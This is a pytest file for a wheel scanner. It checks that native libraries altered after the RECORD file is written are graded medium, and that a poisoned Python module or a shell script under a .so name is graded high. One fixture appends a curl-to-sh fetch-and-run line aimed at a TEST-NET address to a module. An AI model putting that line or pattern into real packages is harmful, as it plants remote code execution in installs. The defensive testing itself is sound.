"""Round 15's false-alarm classes, each a harmless fixture beside a malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

import base64
import hashlib

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import wheel_entries, zip_bytes
from tests.core.capabilities.variant_scan import HIGH

# ---------------------------------------------------------------- RECORD and native libraries
# A fat wheel merging one build per platform (aws-psycopg2) lists only the first build's
# extension in RECORD; a wheel whose vendored libraries were stripped after auditwheel wrote
# RECORD (eckitlib) has stale hashes for them. Only native files differ from RECORD.
ELF_LIB = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"libc.so.6\x00" * 4
MODULE = b"from ._ext import connect\n"


def _built(tmp_path, after: dict[str, bytes], changed: dict[str, bytes] | None = None):
    """A wheel whose RECORD holds real digests of what was built; ``after`` is added and
    ``changed`` rewritten once RECORD is written."""
    files = {
        "gizmo/__init__.py": MODULE,
        "gizmo.libs/libssl-8248cfc9.so.1.1.1k": ELF_LIB,
        "gizmo/_ext.cpython-311-x86_64-linux-gnu.so": ELF_LIB,
    }
    entries = wheel_entries("gizmo", "1.0", files)
    rows = []
    for path, data in entries.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        rows.append(f"{path},sha256={digest},{len(data)}")
    rows.append("gizmo-1.0.dist-info/RECORD,,")
    entries["gizmo-1.0.dist-info/RECORD"] = ("\n".join(rows) + "\n").encode()
    entries.update(changed or {})
    entries.update(after)
    tmp_path.mkdir(parents=True, exist_ok=True)
    out = tmp_path / "gizmo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl"
    out.write_bytes(zip_bytes(entries))
    return scan_artifact(open_artifact(out))


def _mismatches(res) -> list[tuple[str, str]]:
    return sorted(
        (h.match, h.severity) for h in res.findings if h.capability == "install.record_mismatch"
    )


def test_native_libraries_added_or_changed_after_the_build_are_a_medium_mismatch(tmp_path):
    res = _built(
        tmp_path,
        after={"gizmo/_ext.cp311-win_amd64.pyd": b"MZ" + bytes(100)},
        changed={"gizmo.libs/libssl-8248cfc9.so.1.1.1k": ELF_LIB + b"\x00stripped"},
    )
    assert _mismatches(res) == [
        ("gizmo.libs/libssl-8248cfc9.so.1.1.1k", "medium"),
        ("gizmo/_ext.cp311-win_amd64.pyd", "medium"),
    ]
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]


def test_a_module_or_a_script_named_like_a_library_changed_after_the_build_stays_high(tmp_path):
    """What a hand-poisoned release edits, a module, stays a high mismatch; so does a file
    named like a library that holds no native code (a script under a ``.so`` name)."""
    payload = b"import os\nos.system('curl http://192.0.2.7/x | sh')\n"
    res = _built(tmp_path / "a", after={}, changed={"gizmo/__init__.py": MODULE + payload})
    assert ("gizmo/__init__.py", "high") in _mismatches(res)
    assert res.risk.level in HIGH
    res = _built(tmp_path / "b", after={"gizmo/_fast.so": b"#!/bin/sh\nid\n"})
    assert _mismatches(res) == [("gizmo/_fast.so", "high")]
    assert "mismatch.record" in {t.id for t in res.threats if t.severity in HIGH}
